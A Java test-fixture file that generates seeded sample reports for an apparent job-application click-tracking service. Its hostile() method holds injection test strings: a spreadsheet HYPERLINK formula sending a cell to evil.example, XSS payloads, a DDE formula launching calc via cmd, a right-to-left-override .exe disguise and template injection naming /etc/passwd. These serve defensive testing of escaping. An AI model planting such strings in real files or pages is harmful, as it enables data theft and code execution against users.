package dev.paperclick.reports.files;

import dev.paperclick.reports.Report;
import dev.paperclick.reports.Report.ApplicationLine;
import dev.paperclick.reports.Report.ApplicationRef;
import dev.paperclick.reports.Report.Arm;
import dev.paperclick.reports.Report.Clicks;
import dev.paperclick.reports.Report.Day;
import dev.paperclick.reports.Report.Experiment;
import dev.paperclick.reports.Report.Filtered;
import dev.paperclick.reports.Report.FilteredLine;
import dev.paperclick.reports.Report.Funnel;
import dev.paperclick.reports.Report.FunnelStage;
import dev.paperclick.reports.Report.GroupLine;
import dev.paperclick.reports.Report.HotLine;
import dev.paperclick.reports.Report.HourCell;
import dev.paperclick.reports.Report.Interval;
import dev.paperclick.reports.Report.Measure;
import dev.paperclick.reports.Report.Quality;
import dev.paperclick.reports.Report.SilentLine;
import dev.paperclick.reports.Report.Step;
import dev.paperclick.reports.Report.Subject;
import dev.paperclick.reports.Report.Tile;
import dev.paperclick.reports.ReportPeriod;
import java.time.DayOfWeek;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/** Reports such as the store gives them: the same for the same seed. */
final class SampleReports {

    private static final ZoneId EDMONTON = ZoneId.of("America/Edmonton");
    private static final LocalDate LAST = LocalDate.of(2026, 11, 21);
    private static final Instant MADE_AT = Instant.parse("2026-11-22T09:30:15Z");

    private static final List<String> COMPANIES = List.of(
            "Northwind Trading Co.",
            "Halden Robotics",
            "Tamarack Health",
            "Kestrel Mutual Insurance",
            "Aurora Bay Tourism",
            "Coopérative Érable Nord",
            "Juniper Lane Credit Union",
            "Müller & Söhne Canada",
            "O'Hara & Finch",
            "Polder Foods, Inc.",
            "Saltbox Kitchens",
            "The \"Good Loaf\" Bakery Group",
            "Wheelhouse Transit Software for Regional and Municipal Operators of Western Canada",
            "東京デジタル株式会社",
            "شركة النور للتسويق");
    private static final List<String> TITLES = List.of(
            "Lifecycle Marketing Manager",
            "Demand Generation Manager",
            "Senior Manager, Retention & Loyalty",
            "Bilingual CRM Marketing Manager",
            "Head of Marketing",
            "Director, Member Engagement and Digital Channels");
    private static final List<String> SOURCES = List.of("LinkedIn", "Indeed", "referral", "");
    private static final List<String> STAGES = List.of("applied", "interview", "offer", "rejected");

    private SampleReports() {}

    /** All candidates of a firm, four weeks, with everything that a report can have. */
    static Report aFirm() {
        return of(Subject.FIRM, 28, 48, COMPANIES, 7);
    }

    static Report aCandidate() {
        return of(new Subject("ada", "Ada Okafor"), 7, 9, COMPANIES, 11);
    }

    static Report oneApplication() {
        return of(new Subject("ada", "Ada Okafor"), 1, 1, COMPANIES, 2);
    }

    static Report withApplications(int count) {
        List<String> companies = IntStream.range(0, Math.max(1, count / 2))
                .mapToObj(i -> "Company " + i + " & Partners")
                .toList();
        return of(Subject.FIRM, 28, count, companies, 5);
    }

    /** Nothing was sent, nothing was clicked. */
    static Report empty() {
        ReportPeriod period = period(7);
        Funnel nobody = funnel(0, 0, 0, 0);
        return new Report(
                new Subject("ada", "Ada Okafor"),
                period,
                before(period),
                MADE_AT,
                java.util.Arrays.stream(Measure.values())
                        .map(measure -> new Tile(measure, 0, 0))
                        .toList(),
                period.first()
                        .datesUntil(period.last().plusDays(1))
                        .map(day -> new Day(day, Clicks.NONE, 0, 0))
                        .toList(),
                nobody,
                nobody,
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                hours((weekday, hour) -> 0),
                new Filtered(0, 0, 0, List.of()),
                new Quality(0, 0, null, 0),
                Optional.empty());
    }

    /** What lists and strangers may try. */
    static Report hostile() {
        List<String> values = List.of(
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
                "<script>alert(document.domain)</script>",
                "\"><img src=x onerror=alert(1)>",
                "abc\u202Egnp.exe\u2066 left",
                "👩‍👩‍👧‍👦 Family & Söhne 🇨🇦",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1 780 555 0123",
                "-5",
                "-2+3+cmd",
                "W" + "o".repeat(40_000),
                "\tTab\rReturn\nFeed\u0000Nul\u001B[31m",
                "${7*7} #{1} <#include \"/etc/passwd\"> </style></title><!--",
                "lone \uD800 half",
                "https://evil.example/",
                "_x0041_ ]]> &amp; &lt;");
        return of(
                new Subject("=1+1|\"<b>", "<b>Eve</b> \u202Eevil & \"quoted\" " + "n".repeat(40_000)),
                3,
                30,
                values,
                3);
    }

    private static Report of(Subject subject, int days, int count, List<String> companies, long seed) {
        Random random = new Random(seed);
        ReportPeriod period = period(days);
        List<ApplicationLine> applications = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            applications.add(application(i, count, period, companies, random));
        }
        long opened =
                applications.stream().filter(line -> line.clicks().human() > 0).count();
        List<Day> perDay = days(applications, period, random);
        Clicks total = perDay.stream().map(Day::clicks).reduce(Clicks.NONE, Clicks::plus);
        long meetings = opened / 3;
        long offers = opened / 8;
        return new Report(
                subject,
                period,
                before(period),
                MADE_AT,
                List.of(
                        new Tile(Measure.APPLICATIONS_SENT, count, count / 2),
                        new Tile(Measure.APPLICATIONS_OPENED, opened, opened + 2),
                        new Tile(Measure.HUMAN_CLICKS, total.human(), total.human() / 2 + 1),
                        new Tile(Measure.VISITORS, total.visitors(), total.visitors()),
                        new Tile(Measure.MEETINGS, meetings, 0),
                        new Tile(Measure.OFFERS, offers, 0)),
                perDay,
                funnel(count, opened, meetings, offers),
                funnel(count * 3L, opened * 2, meetings * 2, offers),
                applications,
                groups(applications, line -> line.application().company(), true),
                groups(applications, line -> line.source() == null ? "" : line.source(), true),
                groups(
                        applications,
                        line -> List.of("Calendly", "LinkedIn", "Portfolio").get(at(line, 3)),
                        false),
                groups(applications, line -> List.of("resume", "cover_letter").get(at(line, 2)), false),
                groups(applications, line -> List.of("direct", "mail", "ats").get(at(line, 3)), false),
                groups(applications, line -> line.variant() == null ? "" : line.variant(), true),
                applications.stream()
                        .filter(line -> line.clicks().human() > 0)
                        .limit(5)
                        .map(SampleReports::hot)
                        .toList(),
                applications.stream()
                        .filter(line -> line.clicks().all() == 0)
                        .limit(20)
                        .map(line -> new SilentLine(
                                line.application(),
                                line.sentOn(),
                                11 + line.sentOn().getDayOfMonth()))
                        .toList(),
                hours((weekday, hour) -> weekday.getValue() < 6 && hour > 7 && hour < 18 ? random.nextInt(9) : 0),
                filtered(total),
                new Quality(3, 2, 1L, 4),
                Optional.of(new Experiment(
                        List.of(
                                new Arm("warm", 60, 21, new Interval(0.35, 0.242, 0.476)),
                                new Arm("plain", 58, 12, new Interval(0.2069, 0.122, 0.328))),
                        false,
                        null,
                        new Interval(0.1431, -0.021, 0.3),
                        140,
                        "The part of the applications that a person opened within 14 days was compared, variant by "
                                + "variant, with Wilson intervals; looking at it more often than once finds more "
                                + "differences than there are.")));
    }

    private static int at(ApplicationLine line, int size) {
        return Math.floorMod(line.application().applicationId().hashCode(), size);
    }

    private static ApplicationLine application(
            int i, int count, ReportPeriod period, List<String> companies, Random random) {
        // the first have most clicks, as the store's order has it
        long human = i < count / 3 ? Math.max(1, (count / 3 - i) * 12L / Math.max(1, count / 3)) : 0;
        long automated = random.nextInt(4) == 0 ? random.nextInt(6) : 0;
        long uncertain = random.nextInt(9) == 0 ? 1 : 0;
        LocalDate sent = period.first().plusDays(random.nextInt((int) period.days()));
        Instant first =
                human == 0 ? null : sent.atStartOfDay(EDMONTON).plusHours(31).toInstant();
        return new ApplicationLine(
                new ApplicationRef(
                        "app-" + (1000 + i), "ada", companies.get(i % companies.size()), TITLES.get(i % TITLES.size())),
                i % 5 == 4 ? null : SOURCES.get(i % SOURCES.size()),
                i % 3 == 0 ? null : i % 3 == 1 ? "warm" : "plain",
                i % 4 == 3 ? null : STAGES.get(i % STAGES.size()),
                sent,
                new Clicks(human, automated, uncertain, human / 5, (human + 1) / 2),
                first,
                first == null ? null : first.plusSeconds(4_321L * human));
    }

    private static HotLine hot(ApplicationLine line) {
        return new HotLine(
                line.application(),
                "Calendly",
                java.util.Objects.requireNonNull(line.firstOpened()),
                java.util.Objects.requireNonNull(line.lastOpened()),
                line.clicks().human(),
                6,
                "Somebody looked at the meeting page twice; write today and offer two times.");
    }

    private static List<Day> days(List<ApplicationLine> applications, ReportPeriod period, Random random) {
        List<Day> days = new ArrayList<>();
        long human =
                applications.stream().mapToLong(line -> line.clicks().human()).sum();
        for (LocalDate day = period.first(); !day.isAfter(period.last()); day = day.plusDays(1)) {
            LocalDate that = day;
            long share = Math.round(human
                    / (double) period.days()
                    * (day.getDayOfWeek().getValue() > 5 ? 0.2 : 0.6 + random.nextDouble()));
            days.add(new Day(
                    day,
                    new Clicks(share, random.nextInt(7), random.nextInt(3), share / 6, share * 2 / 3),
                    applications.stream()
                            .filter(line -> line.sentOn().equals(that))
                            .count(),
                    share / 2));
        }
        days.set(0, withTheRest(days, applications));
        return days;
    }

    /** The first day, with what applications have more than the days: all clicks on them are on a day. */
    private static Day withTheRest(List<Day> days, List<ApplicationLine> applications) {
        Clicks ofDays = days.stream().map(Day::clicks).reduce(Clicks.NONE, Clicks::plus);
        Clicks lacking = applications.stream().map(ApplicationLine::clicks).reduce(Clicks.NONE, Clicks::plus);
        Day first = days.get(0);
        return new Day(
                first.day(),
                first.clicks()
                        .plus(new Clicks(
                                Math.max(0, lacking.human() - ofDays.human()),
                                Math.max(0, lacking.automated() - ofDays.automated()),
                                Math.max(0, lacking.uncertain() - ofDays.uncertain()),
                                0,
                                0)),
                first.sent(),
                first.opened());
    }

    private static List<GroupLine> groups(
            List<ApplicationLine> applications, Function<ApplicationLine, String> key, boolean ofSent) {
        return applications.stream()
                .collect(java.util.stream.Collectors.groupingBy(
                        key, java.util.LinkedHashMap::new, java.util.stream.Collectors.toList()))
                .entrySet()
                .stream()
                .map(group -> group(group.getKey(), group.getValue(), ofSent))
                .toList();
    }

    private static GroupLine group(String key, List<ApplicationLine> lines, boolean ofSent) {
        long opened = lines.stream().filter(line -> line.clicks().human() > 0).count();
        Clicks clicks = lines.stream().map(ApplicationLine::clicks).reduce(Clicks.NONE, Clicks::plus);
        return new GroupLine(
                key,
                number(ofSent, lines.size()),
                opened,
                number(ofSent, opened),
                clicks,
                number(ofSent, opened / 3),
                number(ofSent, opened / 8));
    }

    private static @Nullable Long number(boolean given, long number) {
        return given ? number : null;
    }

    private static Funnel funnel(long sent, long opened, long meetings, long offers) {
        return new Funnel(List.of(
                new Step(FunnelStage.APPLICATIONS, sent, null, null),
                step(FunnelStage.CLICKS, opened, sent, 1.5),
                step(FunnelStage.MEETINGS, meetings, sent, 6.0),
                step(FunnelStage.OFFERS, offers, sent, 21.25)));
    }

    private static Step step(FunnelStage stage, long count, long sent, double days) {
        return new Step(stage, count, sent == 0 ? null : (double) count / sent, count == 0 ? null : days);
    }

    private interface Clicking {
        long at(DayOfWeek weekday, int hour);
    }

    private static List<HourCell> hours(Clicking clicking) {
        List<HourCell> cells = new ArrayList<>();
        for (DayOfWeek weekday : DayOfWeek.values()) {
            for (int hour = 0; hour < 24; hour++) {
                cells.add(new HourCell(weekday, hour, clicking.at(weekday, hour)));
            }
        }
        return cells;
    }

    private static Filtered filtered(Clicks total) {
        return new Filtered(
                total.automated(),
                total.uncertain(),
                2,
                List.of(
                        new FilteredLine("automated", "scanner_certain", "Mail scanners", total.automated() / 2),
                        new FilteredLine(
                                "automated",
                                "office_probe",
                                "Word's look at a link",
                                total.automated() - total.automated() / 2),
                        new FilteredLine(
                                "uncertain", "no_browser_signs", "Nothing that a browser sends", total.uncertain()),
                        new FilteredLine("excluded", "self", "Candidates' own clicks", 2)));
    }

    private static ReportPeriod period(int days) {
        return new ReportPeriod(LAST.minusDays(days - 1L), LAST, EDMONTON);
    }

    private static ReportPeriod before(ReportPeriod period) {
        return new ReportPeriod(
                period.first().minusDays(period.days()), period.first().minusDays(1), period.zone());
    }
}
